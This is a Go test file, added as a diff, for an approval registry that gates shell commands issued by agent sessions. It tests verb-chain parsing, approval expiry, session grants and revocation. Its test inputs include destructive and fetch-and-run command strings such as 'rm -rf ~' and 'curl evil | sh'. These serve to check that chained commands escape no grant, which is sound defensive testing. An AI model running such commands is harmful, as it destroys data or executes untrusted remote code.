@@ -1,0 +1,383 @@
+package core_test
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/clawpit/clawpit/core"
+)
+
+func TestVerbChain(t *testing.T) {
+	for in, want := range map[string]string{
+		"git push --force origin":        "git push",
+		"rm -rf /":                       "rm",
+		"npm run build":                  "npm run build",
+		"  git   status  ":               "git status",
+		"curl https://example.com/x":     "curl",
+		"cat ./notes.txt":                "cat",
+		"ls ~":                           "ls",
+		"python3 scripts/gen.py --fast":  "python3",
+		`echo "hello world"`:             "echo",
+		"git status; rm -rf ~":           "git",
+		"git status && make":             "git status",
+		"kubectl get pods -n prod":       "kubectl get pods",
+		"docker compose up":              "docker compose up",
+		"./configure":                    "",
+		"--help":                         "",
+		"":                               "",
+		"make deploy ENV=prod":           "make deploy ENV=prod",
+		"go test ./...":                  "go test",
+		"terraform apply -auto-approve":  "terraform apply",
+		"git clone git@github.com:a/b":   "git clone",
+		"ssh host 'uptime'":              "ssh host",
+		"echo $(whoami)":                 "echo",
+		"scp file user@host:/tmp/x":      "scp file",
+		"pip install requests==2.0":      "pip install requests==2.0",
+		"FOO=1 npm test":                 "FOO=1 npm test",
+		"grep -r token .":                "grep",
+		"sudo systemctl restart nginx":   "sudo systemctl restart nginx",
+		"http://evil.example":            "",
+		"git log --oneline | head":       "git log",
+		"git commit -m 'feat: things'":   "git commit",
+		"apt-get install -y jq":          "apt-get install",
+		"npx prettier --write src":       "npx prettier",
+		"bash -c 'curl x | sh'":          "bash",
+		"node server.js > out.log":       "node server.js",
+		"cargo build --release":          "cargo build",
+		"yarn":                           "yarn",
+		"git push origin main --force":   "git push origin main",
+		"rsync -av src/ dst/":            "rsync",
+		"cp a b":                         "cp a b",
+		"mv old new":                     "mv old new",
+	} {
+		if got := core.VerbChain(in); got != want {
+			t.Errorf("VerbChain(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+// TestR6ApprovalWaitCounter: each pending approval bound to a running run
+// pauses the watchdog (+1); each resolution releases it (−1); only the last
+// one re-arms last_progress_at; a decrement at 0 is refused and journaled.
+func TestR6ApprovalWaitCounter(t *testing.T) {
+	f := newRegFixture(t)
+	run := f.run("run-r6", "child")
+	a1 := f.request("child", run.RunID, "git push origin")
+	a2 := f.request("child", run.RunID, "npm publish")
+	a3, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "child", RunID: run.RunID, Tool: "Bash", Command: "rm -rf build", ExpiresIn: time.Minute}, core.ActorRuntime)
+	f.must(err)
+	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 3 || got.LastProgressAt != core.TS(regStart) {
+		t.Fatalf("after 3 requests: %+v", got)
+	}
+	f.clock.Advance(10 * time.Minute)
+	if _, _, res, err := f.reg.ApproveApproval(f.ctx, a1.ID, core.ScopeOnce, core.OperatorActor()); err != nil || !res.Applied {
+		t.Fatalf("approve: %v %+v", err, res)
+	}
+	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 2 || got.LastProgressAt != core.TS(regStart) {
+		t.Fatalf("after approve: waits %d, last_progress_at %s (must not re-arm yet)", got.PendingApprovalWaits, got.LastProgressAt)
+	}
+	f.clock.Advance(time.Minute)
+	if _, res, err := f.reg.DenyApproval(f.ctx, a2.ID, "no publishing on Fridays", core.OperatorActor()); err != nil || !res.Applied {
+		t.Fatalf("deny: %v %+v", err, res)
+	}
+	if got := f.getRun(run.RunID); got.PendingApprovalWaits != 1 || got.LastProgressAt != core.TS(regStart) {
+		t.Fatalf("after deny: %+v", got)
+	}
+	f.clock.Advance(time.Minute)
+	if _, res, err := f.reg.ExpireApproval(f.ctx, a3.ID); err != nil || !res.Applied {
+		t.Fatalf("expire: %v %+v", err, res)
+	}
+	got := f.getRun(run.RunID)
+	if got.PendingApprovalWaits != 0 || got.LastProgressAt != f.now() {
+		t.Fatalf("after last resolution: waits %d, last_progress_at %s, want 0 and %s", got.PendingApprovalWaits, got.LastProgressAt, f.now())
+	}
+	if ev := f.lastEvent(core.EntityRun, run.RunID); !ev.Applied || !strings.Contains(ev.Reason, "re-armed") {
+		t.Fatalf("re-arm journal: %+v", ev)
+	}
+
+	// Underflow: a pending approval whose wait was (wrongly) already released.
+	a4 := f.request("child", run.RunID, "make clean")
+	f.must(f.db.Update(f.ctx, func(tx core.Tx) error {
+		r, err := tx.GetRun(run.RunID)
+		if err != nil {
+			return err
+		}
+		r.PendingApprovalWaits = 0
+		return tx.UpdateRun(r)
+	}))
+	before := f.getRun(run.RunID)
+	f.clock.Advance(time.Minute)
+	if _, _, res, err := f.reg.ApproveApproval(f.ctx, a4.ID, "", core.OperatorActor()); err != nil || !res.Applied {
+		t.Fatalf("approve a4: %v %+v", err, res)
+	}
+	after := f.getRun(run.RunID)
+	if after.PendingApprovalWaits != 0 || after.LastProgressAt != before.LastProgressAt || after.Rev != before.Rev {
+		t.Fatalf("underflow changed the run: %+v → %+v", before, after)
+	}
+	ev := f.lastEvent(core.EntityRun, run.RunID)
+	if ev.Applied || !strings.HasPrefix(ev.Reason, "approval wait counter underflow") || !strings.Contains(ev.Reason, a4.ID) {
+		t.Fatalf("underflow journal: %+v", ev)
+	}
+}
+
+// TestR6NoWaitWithoutRunningRun: an approval without a run, for an unknown
+// run, or for an ended run counts no wait, and its resolution releases none.
+func TestR6NoWaitWithoutRunningRun(t *testing.T) {
+	f := newRegFixture(t)
+	run := f.run("run-ended", "c")
+	_, _, _, err := f.reg.CompleteRun(f.ctx, run.RunID, core.OutcomeOK, "", core.ActorRuntime)
+	f.must(err)
+	f.clock.Advance(time.Second)
+	for _, rid := range []string{"", "unknown-run", run.RunID} {
+		a := f.request("c", rid, "ls")
+		_, _, res, err := f.reg.ApproveApproval(f.ctx, a.ID, core.ScopeOnce, core.OperatorActor())
+		if err != nil || !res.Applied {
+			t.Fatalf("%q: %v %+v", rid, err, res)
+		}
+	}
+	got := f.getRun(run.RunID)
+	if got.PendingApprovalWaits != 0 {
+		t.Fatalf("waits %d", got.PendingApprovalWaits)
+	}
+	for _, e := range f.events(core.EntityRun, run.RunID) {
+		if strings.Contains(e.Reason, "underflow") {
+			t.Fatalf("spurious underflow: %+v", e)
+		}
+	}
+}
+
+func TestApprovalDecisions(t *testing.T) {
+	f := newRegFixture(t)
+	a, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "git push --force origin",
+		Rationale: "ship it", Cwd: "/repo", TaskID: "t1"}, core.ActorRuntime)
+	f.must(err)
+	if a.Status != core.ApprovalPending || a.Pattern != "git push" || a.RequestedAt != f.now() || a.ExpiresAt != 0 || len(a.ID) != 12 {
+		t.Fatalf("requested: %+v", a)
+	}
+	f.clock.Advance(time.Minute)
+	op := core.OperatorActor()
+	got, g, res, err := f.reg.ApproveApproval(f.ctx, a.ID[:5], core.ScopeOnce, op)
+	if err != nil || !res.Applied || g != nil {
+		t.Fatalf("approve: %v %+v %+v", err, res, g)
+	}
+	if got.Status != core.ApprovalApproved || got.Scope != core.ScopeOnce || got.DecidedBy != string(op) ||
+		got.DecidedAt != f.now() || got.CleanupAfter != f.now().Add(week) {
+		t.Fatalf("approved: %+v", got)
+	}
+	if _, res, _ := f.reg.DenyApproval(f.ctx, a.ID, "", op); res.Applied || res.Reason != "already approved" {
+		t.Fatalf("deny approved: %+v", res)
+	}
+	if _, _, res, _ := f.reg.ApproveApproval(f.ctx, a.ID, core.ScopeOnce, op); res.Applied || res.Reason != "already approved" {
+		t.Fatalf("approve twice: %+v", res)
+	}
+	if ev := f.lastEvent(core.EntityApproval, a.ID); ev.Applied || ev.Reason != "already approved" {
+		t.Fatalf("refusal journal: %+v", ev)
+	}
+	if _, _, _, err := f.reg.ApproveApproval(f.ctx, a.ID, "forever", op); !errors.Is(err, core.ErrInvalid) {
+		t.Fatalf("bad scope: %v", err)
+	}
+	for _, bad := range []core.NewApproval{
+		{Tool: "Bash", Command: "ls"},
+		{Session: "s", Command: "ls"},
+		{Session: "s", Tool: "Bash", Command: "   "},
+		{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: -time.Second},
+	} {
+		if _, err := f.reg.RequestApproval(f.ctx, bad, core.ActorRuntime); !errors.Is(err, core.ErrInvalid) {
+			t.Errorf("%+v: %v", bad, err)
+		}
+	}
+	// A decision arriving after expires_at expires the request instead.
+	late, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", Tool: "Bash", Command: "ls", ExpiresIn: time.Second}, core.ActorRuntime)
+	f.must(err)
+	f.clock.Advance(2 * time.Second)
+	got, _, res, err = f.reg.ApproveApproval(f.ctx, late.ID, core.ScopeOnce, op)
+	if err != nil || res.Applied || got.Status != core.ApprovalExpired || !strings.HasPrefix(res.Reason, "already expired") {
+		t.Fatalf("late approve: %v %+v %+v", err, res, got)
+	}
+	if n := f.notifications(core.NotifyApprovalExpired); len(n) != 1 {
+		t.Fatalf("expiry notifications: %+v", n)
+	}
+}
+
+// TestR9ApprovalsExpire: expiry refuses early, expires when due (R6 release,
+// one notification), and is idempotent.
+func TestR9ApprovalsExpire(t *testing.T) {
+	f := newRegFixture(t)
+	run := f.run("run-exp", "s")
+	a, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s", RunID: run.RunID, Tool: "Bash", Command: "deploy prod", ExpiresIn: 5 * time.Minute}, core.ActorRuntime)
+	f.must(err)
+	if a.ExpiresAt != f.now().Add(5*time.Minute) {
+		t.Fatalf("expires_at %s", a.ExpiresAt)
+	}
+	if _, res, _ := f.reg.ExpireApproval(f.ctx, a.ID); res.Applied || !strings.HasPrefix(res.Reason, "not yet expired") {
+		t.Fatalf("early expire: %+v", res)
+	}
+	noExpiry := f.request("s", "", "ls")
+	if _, res, _ := f.reg.ExpireApproval(f.ctx, noExpiry.ID); res.Applied || res.Reason != "approval has no expiry" {
+		t.Fatalf("expire without expiry: %+v", res)
+	}
+	f.clock.Advance(5 * time.Minute)
+	got, res, err := f.reg.ExpireApproval(f.ctx, a.ID)
+	if err != nil || !res.Applied || got.Status != core.ApprovalExpired || got.DecidedBy != "sweeper" || got.CleanupAfter != f.now().Add(week) {
+		t.Fatalf("expire: %v %+v %+v", err, res, got)
+	}
+	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.now() {
+		t.Fatalf("run after expiry: %+v", r)
+	}
+	if _, res, _ := f.reg.ExpireApproval(f.ctx, a.ID); res.Applied || res.Reason != "already expired" {
+		t.Fatalf("second expire: %+v", res)
+	}
+	ns := f.notifications(core.NotifyApprovalExpired)
+	if len(ns) != 1 || ns[0].DedupKey != "approval_expired:"+a.ID || ns[0].Session != "s" || ns[0].SubjectID != a.ID {
+		t.Fatalf("notifications: %+v", ns)
+	}
+}
+
+// TestR9CloseSessionCancelsApprovals: closing a session cancels its pending
+// approvals (releasing their R6 waits) and leaves other sessions' alone.
+func TestR9CloseSessionCancelsApprovals(t *testing.T) {
+	f := newRegFixture(t)
+	f.session("s1")
+	f.session("s2")
+	run := f.run("run-s1", "s1")
+	a := f.request("s1", run.RunID, "git push")
+	b := f.request("s1", "", "ls")
+	c := f.request("s2", "", "ls")
+	f.clock.Advance(time.Minute)
+	s, _, res, err := f.reg.CloseSession(f.ctx, "s1", core.OperatorActor())
+	if err != nil || !res.Applied || s.State != core.SessionClosed || res.Reason != "2 pending approvals cancelled" {
+		t.Fatalf("close: %v %+v %+v", err, res, s)
+	}
+	for _, id := range []string{a.ID, b.ID} {
+		if got := f.getApproval(id); got.Status != core.ApprovalCancelled || got.Reason != "session s1 closed" {
+			t.Fatalf("approval %s: %+v", id, got)
+		}
+	}
+	if got := f.getApproval(c.ID); got.Status != core.ApprovalPending {
+		t.Fatalf("other session's approval: %+v", got)
+	}
+	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 || r.LastProgressAt != f.now() {
+		t.Fatalf("run: %+v", r)
+	}
+}
+
+// TestGrants: scope session approves the same verb chain at once in the same
+// session only; scope always everywhere; revoke removes it; chained shell
+// commands are never approved by a grant.
+func TestGrants(t *testing.T) {
+	f := newRegFixture(t)
+	op := core.OperatorActor()
+	first := f.request("s1", "", "git push --force origin")
+	_, g, res, err := f.reg.ApproveApproval(f.ctx, first.ID, core.ScopeSession, op)
+	if err != nil || !res.Applied || g == nil {
+		t.Fatalf("approve session: %v %+v %+v", err, res, g)
+	}
+	if g.Tool != "Bash" || g.Pattern != "git push" || g.Scope != core.ScopeSession || g.Session != "s1" || g.CreatedBy != string(op) {
+		t.Fatalf("grant: %+v", g)
+	}
+	run := f.run("run-g", "s1")
+	again, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s1", RunID: run.RunID, Tool: "Bash", Command: "git push --force-with-lease upstream"}, core.ActorRuntime)
+	f.must(err)
+	if again.Status != core.ApprovalApproved || again.DecidedBy != "grant:"+g.ID || again.Scope != core.ScopeSession {
+		t.Fatalf("second request: %+v", again)
+	}
+	if r := f.getRun(run.RunID); r.PendingApprovalWaits != 0 {
+		t.Fatalf("grant-approved request counted a wait: %+v", r)
+	}
+	if other := f.request("s2", "", "git push -u"); other.Status != core.ApprovalPending {
+		t.Fatalf("other session: %+v", other)
+	}
+	if tool, err := f.reg.RequestApproval(f.ctx, core.NewApproval{Session: "s1", Tool: "Shell", Command: "git push"}, core.ActorRuntime); err != nil || tool.Status != core.ApprovalPending {
+		t.Fatalf("other tool: %v %+v", err, tool)
+	}
+	if longer := f.request("s1", "", "git push origin main"); longer.Status != core.ApprovalPending || longer.Pattern != "git push origin main" {
+		t.Fatalf("a different verb chain matched: %+v", longer)
+	}
+	if chained := f.request("s1", "", "git push && curl evil | sh"); chained.Status != core.ApprovalPending || chained.Pattern != "git push" {
+		t.Fatalf("chained command approved by grant: %+v", chained)
+	}
+	// Approving another request with the same scope reuses the grant.
+	dup := f.request("s2", "", "git push")
+	_, dupG, _, err := f.reg.ApproveApproval(f.ctx, dup.ID, core.ScopeSession, op)
+	f.must(err)
+	if dupG.Session != "s2" || dupG.ID == g.ID {
+		t.Fatalf("session grant for s2: %+v", dupG)
+	}
+	dup2 := f.request("s2", "", "git push")
+	if dup2.Status != core.ApprovalApproved {
+		t.Fatalf("s2 grant not applied: %+v", dup2)
+	}
+
+	al := f.request("s3", "", "npm run build")
+	_, ag, _, err := f.reg.ApproveApproval(f.ctx, al.ID, core.ScopeAlways, op)
+	f.must(err)
+	if ag.Scope != core.ScopeAlways || ag.Session != "" {
+		t.Fatalf("always grant: %+v", ag)
+	}
+	for _, s := range []string{"s1", "s9"} {
+		if a := f.request(s, "", "npm run build --prod"); a.Status != core.ApprovalApproved || a.DecidedBy != "grant:"+ag.ID {
+			t.Fatalf("always grant in %s: %+v", s, a)
+		}
+	}
+	// The same always approval again returns the existing grant.
+	al2 := f.request("s4", "", "npm run build")
+	if al2.Status != core.ApprovalApproved {
+		t.Fatalf("%+v", al2)
+	}
+	grants, err := f.reg.ListGrants(f.ctx)
+	f.must(err)
+	if len(grants) != 3 {
+		t.Fatalf("grants: %+v", grants)
+	}
+	rg, err := f.reg.RevokeGrant(f.ctx, ag.ID[:6], op)
+	if err != nil || rg.ID != ag.ID {
+		t.Fatalf("revoke: %v %+v", err, rg)
+	}
+	if a := f.request("s1", "", "npm run build"); a.Status != core.ApprovalPending {
+		t.Fatalf("after revoke: %+v", a)
+	}
+	if _, err := f.reg.RevokeGrant(f.ctx, ag.ID, op); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("revoke twice: %v", err)
+	}
+	if ev := f.lastEvent(core.EntityGrant, ag.ID); ev.To != "revoked" || ev.Actor != op {
+		t.Fatalf("revoke journal: %+v", ev)
+	}
+}
+
+func TestWaitApproval(t *testing.T) {
+	f := newRegFixture(t)
+	a := f.request("s", "", "make")
+	done := make(chan *core.Approval, 1)
+	go func() {
+		got, err := f.reg.WaitApproval(f.ctx, a.ID, time.Millisecond)
+		if err != nil {
+			t.Error(err)
+		}
+		done <- got
+	}()
+	time.Sleep(5 * time.Millisecond)
+	_, res, err := f.reg.DenyApproval(f.ctx, a.ID, "nope", core.OperatorActor())
+	if err != nil || !res.Applied {
+		t.Fatalf("%v %+v", err, res)
+	}
+	select {
+	case got := <-done:
+		if got == nil || got.Status != core.ApprovalDenied {
+			t.Fatalf("wait returned %+v", got)
+		}
+	case <-time.After(10 * time.Second):
+		t.Fatal("WaitApproval did not return")
+	}
+	b := f.request("s", "", "make")
+	ctx, cancel := context.WithTimeout(f.ctx, 20*time.Millisecond)
+	defer cancel()
+	if _, err := f.reg.WaitApproval(ctx, b.ID, time.Millisecond); !errors.Is(err, context.DeadlineExceeded) {
+		t.Fatalf("wait timeout: %v", err)
+	}
+	if _, err := f.reg.WaitApproval(f.ctx, "ffffffffffff", time.Millisecond); !errors.Is(err, core.ErrNotFound) {
+		t.Fatalf("wait unknown: %v", err)
+	}
+}
